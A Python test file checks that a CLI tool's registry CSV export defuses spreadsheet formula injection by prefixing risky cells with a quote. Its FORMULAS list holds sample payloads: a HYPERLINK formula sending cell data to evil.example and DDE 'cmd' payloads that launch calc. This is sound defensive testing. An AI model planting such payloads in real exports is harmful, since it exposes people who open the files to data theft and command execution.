"""Issue 15, class 9: the registry CSV is data in every spreadsheet.

Officers open the registry CSV in Excel or LibreOffice, which run a cell starting with
`=`, `+`, `-` or `@` (and, in some versions, a tab or carriage return) as a formula: a
profile could make a spreadsheet fetch a web address or run a command. Such cells start
with a quote instead (OWASP's advice), in the CSV for Excel and the printed one alike.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

from typer.testing import CliRunner

from msgen.cli import app
from msgen.annual.registry import COLUMNS, as_csv
from test_registry import STAFFORDSHIRE

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_registry_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    profile = copy.deepcopy(STAFFORDSHIRE)
    for organisation, formula in zip(profile["organisations"], FORMULAS):
        organisation["name"] = formula
    profile["signatories"][0]["name"] = FORMULAS[3]
    path = tmp_path / "profile.json"
    path.write_text(json.dumps(profile), encoding="utf-8")
    for options in ([], ["-o", str(tmp_path / "registry.csv")]):
        result = CliRunner().invoke(app, ["registry", str(path), *options])
        assert result.exit_code == 0, result.output
        text = (tmp_path / "registry.csv").read_text(encoding="utf-8-sig") if options else result.stdout
        rows = list(csv.DictReader(io.StringIO(text)))
        names = [row["OrganisationName"] for row in rows]
        assert names == ["'" + formula for formula in FORMULAS[:3]]
        assert rows[0]["ApprovingPerson"].startswith("'" + FORMULAS[3])
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    blank = dict.fromkeys(COLUMNS, "")
    cells = list(csv.DictReader(io.StringIO(as_csv([{**blank, "OrganisationName": "\t=1+1",
                                                      "ParentName": "\r=1+1", "Turnover": "plain - text"}]))))[0]
    assert (cells["OrganisationName"], cells["ParentName"], cells["Turnover"]) == ("'\t=1+1", "'\r=1+1", "plain - text")
